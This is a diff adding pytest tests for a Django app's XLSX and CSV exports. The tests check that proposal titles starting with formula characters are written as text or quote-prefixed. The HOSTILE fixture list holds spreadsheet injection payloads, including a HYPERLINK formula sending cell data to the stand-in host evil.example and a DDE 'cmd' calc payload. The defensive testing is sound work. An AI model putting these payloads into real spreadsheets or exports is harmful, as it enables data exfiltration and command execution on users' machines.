@@ -1,0 +1,97 @@
+"""Text that a spreadsheet would run as a formula is written as text; numbers stay numbers."""
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import Workbook, load_workbook
+
+from proposals.models import Proposal
+from tests.conftest import proposal
+from workbooks import xlsx
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd|' /C calc'!A0",
+    "\rcmd",
+    "#N/A",
+    "=1",
+]
+
+
+def test_text_cell_keeps_formula_like_text_as_text():
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet("S")
+    ws.append([xlsx.text_cell(ws, text) for text in HOSTILE] + [xlsx.number_cell(ws, -27)])
+    out = io.BytesIO()
+    wb.save(out)
+    row = next(load_workbook(io.BytesIO(out.getvalue()))["S"].iter_rows())
+    for cell, text in zip(row, HOSTILE):
+        assert cell.data_type == "s", text
+        assert cell.value.replace("\n", "\r") == text.replace("\n", "\r")
+    assert row[-1].data_type == "n" and float(row[-1].value) == -0.027
+    assert row[0].quotePrefix  # Excel keeps it text if someone retypes it
+
+
+def test_characters_a_workbook_cannot_hold_are_dropped_not_fatal():
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet("S")
+    ws.append([xlsx.text_cell(ws, "Bell\x07 and\x00 nul")])
+    out = io.BytesIO()
+    wb.save(out)
+    assert load_workbook(io.BytesIO(out.getvalue()))["S"]["A1"].value == "Bell and nul"
+
+
+@pytest.fixture
+def hostile_titles(ce_plan):
+    targets = list(Proposal.objects.filter(plan=ce_plan).order_by("pk")[: len(HOSTILE)])
+    for target, title in zip(targets, HOSTILE):
+        Proposal.objects.filter(pk=target.pk).update(title=title)
+    return {target.pk: title for target, title in zip(targets, HOSTILE)}
+
+
+def test_hostile_titles_come_back_from_the_workbook_as_text_cells(ce_plan, hostile_titles, commissioner, client_for):
+    url = reverse("workbooks:export", args=[ce_plan.council.slug, ce_plan.slug])
+    response = client_for(commissioner).get(url)
+    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    ws = wb["Outcome 5"]
+    found = {}
+    for row in ws.iter_rows(min_row=7):
+        ids = [c for c in row if c.column == ws.max_column - 1]
+        if ids and ids[0].value in hostile_titles:
+            title = row[1]
+            assert title.data_type == "s"
+            found[ids[0].value] = title.value
+    assert {pk: v.replace("\n", "\r") for pk, v in found.items()} == hostile_titles
+
+
+def test_hostile_titles_are_guarded_in_the_flat_csv(ce_plan, hostile_titles, commissioner, client_for):
+    url = reverse("workbooks:export_flat", args=[ce_plan.council.slug, ce_plan.slug, "csv"])
+    response = client_for(commissioner).get(url)
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    titles = {int(row["Proposal id"]): row["Title"] for row in rows}
+    for pk, title in hostile_titles.items():
+        assert titles[pk] == ("'" + title if title[0] in "=+-@\t\r" else title)
+    # Figures stay plain numbers, minus signs and all.
+    row = next(r for r in rows if r["Reference"] == "[33]")
+    assert row["2019/20"] == "-0.027"
+
+
+def test_hostile_titles_survive_a_round_trip_unchanged(ce_plan, hostile_titles, officer, client_for):
+    from workbooks.imports import preview_import
+
+    client = client_for(officer)
+    for url, name in (
+        (reverse("workbooks:export", args=[ce_plan.council.slug, ce_plan.slug]), "book.xlsx"),
+        (reverse("workbooks:export_flat", args=[ce_plan.council.slug, ce_plan.slug, "csv"]), "list.csv"),
+    ):
+        data = b"".join(client.get(url).streaming_content)
+        preview = preview_import(plan=ce_plan, data=data, filename=name)
+        assert not preview.problems
+        assert not preview.changed and not preview.created
+        assert preview.unchanged == 18
+    assert proposal(ce_plan, "33").title in hostile_titles.values()
